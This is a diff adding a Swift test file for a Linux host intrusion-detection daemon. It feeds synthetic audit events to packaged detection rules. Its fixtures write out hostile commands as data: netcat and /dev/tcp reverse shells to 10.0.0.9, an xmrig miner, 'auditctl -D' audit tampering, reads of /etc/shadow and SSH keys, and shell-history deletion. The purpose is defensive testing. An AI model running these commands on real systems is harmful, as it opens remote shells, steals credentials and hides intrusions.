@@ -1,0 +1,133 @@
+import AuditStream
+import Foundation
+import RuleEngine
+import Testing
+import VigilDaemon
+import VigilTestSupport
+
+/// The packaged rules over audit events shaped exactly as the kernel writes them (x86_64, raw format), run
+/// through the same parser, assembler, decoder and field source as the daemon. Host-side behaviours only:
+/// container attribution needs live /proc and is covered by the container tests.
+struct PackagedRulesTests {
+    static let rulesDir = VigilBinary.repoRoot.appendingPathComponent("rules").path
+
+    static func hex(_ s: String) -> String { s.utf8.map { String(format: "%02X", $0) }.joined() }
+
+    /// One syscall event. `paths`: (name, nametype, mode); `sockaddr`: raw hex.
+    static func event(
+        serial: Int, syscall: Int, exit: Int = 0, a: [String] = ["0", "0", "0", "0"], comm: String, exe: String,
+        argv: [String]? = nil, cwd: String = "/root", paths: [(String, String, String)] = [], sockaddr: String? = nil,
+        uid: Int = 0, auid: Int = 1000
+    ) -> [String] {
+        let stamp = "1795600000.\(String(format: "%03d", serial % 1000)):\(serial)"
+        let success = exit >= 0 ? "yes" : "no"
+        var lines = [
+            "type=SYSCALL msg=audit(\(stamp)): arch=c000003e syscall=\(syscall) success=\(success) exit=\(exit) a0=\(a[0]) a1=\(a[1]) a2=\(a[2]) a3=\(a[3]) items=\(paths.count) ppid=100 pid=\(4000 + serial) auid=\(auid) uid=\(uid) gid=\(uid) euid=\(uid) suid=\(uid) fsuid=\(uid) egid=\(uid) sgid=\(uid) fsgid=\(uid) tty=pts0 ses=3 comm=\"\(comm)\" exe=\"\(exe)\" key=\"vigil\""
+        ]
+        if let argv {
+            lines.append("type=EXECVE msg=audit(\(stamp)): argc=\(argv.count) " + argv.enumerated().map { "a\($0.offset)=\(hex($0.element))" }.joined(separator: " "))
+        }
+        if let sockaddr { lines.append("type=SOCKADDR msg=audit(\(stamp)): saddr=\(sockaddr)") }
+        lines.append("type=CWD msg=audit(\(stamp)): cwd=\"\(cwd)\"")
+        for (i, p) in paths.enumerated() {
+            lines.append("type=PATH msg=audit(\(stamp)): item=\(i) name=\"\(p.0)\" inode=\(100 + i) dev=fd:01 mode=\(p.2) ouid=0 ogid=0 rdev=00:00 nametype=\(p.1) cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0")
+        }
+        lines.append("type=PROCTITLE msg=audit(\(stamp)): proctitle=\(hex((argv ?? [comm]).joined(separator: "\u{0}")))")
+        lines.append("type=EOE msg=audit(\(stamp)): ")
+        return lines
+    }
+
+    static func fired(_ lines: [String]) throws -> [String] {
+        let matcher = try RuleMatcher(paths: [rulesDir + "/vigil_rules.yaml"], hostname: "test")
+        let pipeline = AuditStreamPipeline()
+        var rules: [String] = []
+        let sink: (AuditStreamPipeline.Output) -> Void = {
+            if case .event(let e) = $0 { matcher.match(EventDecoder.decode(e), context: nil) { rules.append($0.rule) } }
+        }
+        for (i, l) in lines.enumerated() { pipeline.push(line: Array(l.utf8), number: i + 1, emit: sink) }
+        pipeline.finish(emit: sink)
+        return rules
+    }
+
+    @Test func packagedRulesLoadWithoutErrorsOrWarnings() throws {
+        let ruleset = try RuleLoader().load(paths: [Self.rulesDir])
+        #expect(ruleset.rules.count >= 45)
+        #expect(ruleset.diagnostics.isEmpty, "\(ruleset.diagnostics)")
+        for rule in ruleset.rules where rule.location.file.hasSuffix("vigil_rules.yaml") {
+            #expect(!rule.description.isEmpty)
+            #expect(rule.tags.contains { $0.hasPrefix("T1") }, "\(rule.name) has no MITRE technique tag")
+            #expect(rule.tags.contains("container") || rule.tags.contains("host"))
+        }
+    }
+
+    @Test func sensitiveCredentialReadFires() throws {
+        let shadow = Self.event(serial: 1, syscall: 257, exit: 3, a: ["ffffff9c", "7ffd1000", "0", "0"], comm: "cat", exe: "/usr/bin/cat",
+                                paths: [("/etc/shadow", "NORMAL", "0100640")])
+        #expect(try Self.fired(shadow) == ["Sensitive credential file read"])
+        let key = Self.event(serial: 2, syscall: 257, exit: 3, a: ["ffffff9c", "7ffd1000", "80000", "0"], comm: "python3", exe: "/usr/bin/python3.11",
+                             cwd: "/home/eve", paths: [(".ssh/id_ed25519", "NORMAL", "0100600")])
+        #expect(try Self.fired(key) == ["Sensitive credential file read"])
+        let pub = Self.event(serial: 3, syscall: 257, exit: 3, a: ["ffffff9c", "7ffd1000", "0", "0"], comm: "cat", exe: "/usr/bin/cat",
+                             paths: [("/root/.ssh/id_ed25519.pub", "NORMAL", "0100644")])
+        #expect(try Self.fired(pub).isEmpty)
+        let failed = Self.event(serial: 4, syscall: 257, exit: -13, a: ["ffffff9c", "7ffd1000", "0", "0"], comm: "cat", exe: "/usr/bin/cat",
+                                paths: [("/etc/shadow", "NORMAL", "0100640")])
+        #expect(try Self.fired(failed).isEmpty)
+    }
+
+    @Test func executionAndShellBehavioursFire() throws {
+        let tmp = Self.event(serial: 10, syscall: 59, comm: "payload", exe: "/tmp/payload", argv: ["/tmp/payload", "-q"],
+                             paths: [("/tmp/payload", "NORMAL", "0100755"), ("/lib64/ld-linux-x86-64.so.2", "NORMAL", "0100755")])
+        #expect(try Self.fired(tmp) == ["Execution from temporary or memory location"])
+        let nc = Self.event(serial: 11, syscall: 59, comm: "nc", exe: "/usr/bin/nc.traditional", argv: ["nc", "-e", "/bin/sh", "10.0.0.9", "4444"],
+                            paths: [("/usr/bin/nc", "NORMAL", "0100755")])
+        #expect(try Self.fired(nc) == ["Netcat remote code execution"])
+        let devtcp = Self.event(serial: 12, syscall: 59, comm: "bash", exe: "/usr/bin/bash", argv: ["bash", "-c", "bash -i >& /dev/tcp/10.0.0.9/4444 0>&1"],
+                                paths: [("/bin/bash", "NORMAL", "0100755")])
+        #expect(try Self.fired(devtcp) == ["Reverse shell via dev tcp"])
+        let miner = Self.event(serial: 13, syscall: 59, comm: "xmrig", exe: "/opt/x/xmrig", argv: ["./xmrig", "-o", "stratum+tcp://pool:3333"],
+                               cwd: "/opt/x", paths: [("./xmrig", "NORMAL", "0100755")])
+        #expect(try Self.fired(miner) == ["Crypto miner executed"])
+        let audit = Self.event(serial: 14, syscall: 59, comm: "auditctl", exe: "/usr/sbin/auditctl", argv: ["auditctl", "-D"],
+                               paths: [("/sbin/auditctl", "NORMAL", "0100750")])
+        #expect(try Self.fired(audit) == ["Audit subsystem tampering"])
+        let benign = Self.event(serial: 15, syscall: 59, comm: "ls", exe: "/usr/bin/ls", argv: ["ls", "-la", "/tmp"],
+                                paths: [("/usr/bin/ls", "NORMAL", "0100755")])
+        #expect(try Self.fired(benign).isEmpty)
+    }
+
+    @Test func kernelAndFilesystemBehavioursFire() throws {
+        let module = Self.event(serial: 20, syscall: 313, exit: -38, a: ["3", "0", "0", "0"], comm: "insmod", exe: "/usr/bin/kmod")
+        #expect(try Self.fired(module) == ["Kernel module load attempt"])
+        let ptrace = Self.event(serial: 21, syscall: 101, a: ["10", "1234", "0", "0"], comm: "inject", exe: "/usr/local/bin/inject")
+        #expect(try Self.fired(ptrace) == ["Ptrace of another process"])
+        // openat(AT_FDCWD, "/usr/bin/ls", O_WRONLY|O_CREAT|O_TRUNC): PARENT + CREATE items, as the kernel writes them.
+        let binWrite = Self.event(serial: 22, syscall: 257, exit: 3, a: ["ffffff9c", "7ffd1000", "241", "1ed"], comm: "cp", exe: "/usr/bin/cp",
+                                  paths: [("/usr/bin/", "PARENT", "040755"), ("/usr/bin/ls", "NORMAL", "0100755")])
+        #expect(try Self.fired(binWrite) == ["Write below binary directory"])
+        let dpkg = Self.event(serial: 23, syscall: 257, exit: 3, a: ["ffffff9c", "7ffd1000", "241", "1ed"], comm: "dpkg", exe: "/usr/bin/dpkg",
+                              paths: [("/usr/bin/", "PARENT", "040755"), ("/usr/bin/ls", "NORMAL", "0100755")])
+        #expect(try Self.fired(dpkg).isEmpty)
+        let history = Self.event(serial: 24, syscall: 87, a: ["7ffd1000", "0", "0", "0"], comm: "rm", exe: "/usr/bin/rm", cwd: "/root",
+                                 paths: [("/root/", "PARENT", "040700"), (".bash_history", "DELETE", "0100600")])
+        let historyRules = try Self.fired(history)
+        #expect(historyRules == ["Log or shell history cleared"], "\(historyRules)")
+        let core = Self.event(serial: 25, syscall: 257, exit: 3, a: ["ffffff9c", "7ffd1000", "1", "0"], comm: "sh", exe: "/usr/bin/dash",
+                              paths: [("/proc/sys/kernel/core_pattern", "NORMAL", "0100644")])
+        #expect(try Self.fired(core) == ["Write to cgroup release_agent or core_pattern"])
+    }
+
+    @Test func minerPortConnectAndRuntimeSocketFire() throws {
+        // connect(3, {AF_INET, 3333, 10.1.2.3})
+        let pool = Self.event(serial: 30, syscall: 42, exit: -115, a: ["3", "7ffd1000", "10", "0"], comm: "worker", exe: "/usr/bin/worker",
+                              sockaddr: "02000D050A0102030000000000000000")
+        #expect(try Self.fired(pool) == ["Outbound connection to mining pool port"])
+        let sock = "0100" + Self.hex("/var/run/docker.sock") + "00"
+        let docker = Self.event(serial: 31, syscall: 42, a: ["3", "7ffd1000", "6e", "0"], comm: "curl", exe: "/usr/bin/curl",
+                                sockaddr: sock)
+        #expect(try Self.fired(docker) == ["Container runtime socket accessed"])
+        let web = Self.event(serial: 32, syscall: 42, exit: 0, a: ["3", "7ffd1000", "10", "0"], comm: "curl", exe: "/usr/bin/curl",
+                             sockaddr: "020001BB5DB8D8220000000000000000")
+        #expect(try Self.fired(web).isEmpty)
+    }
+}
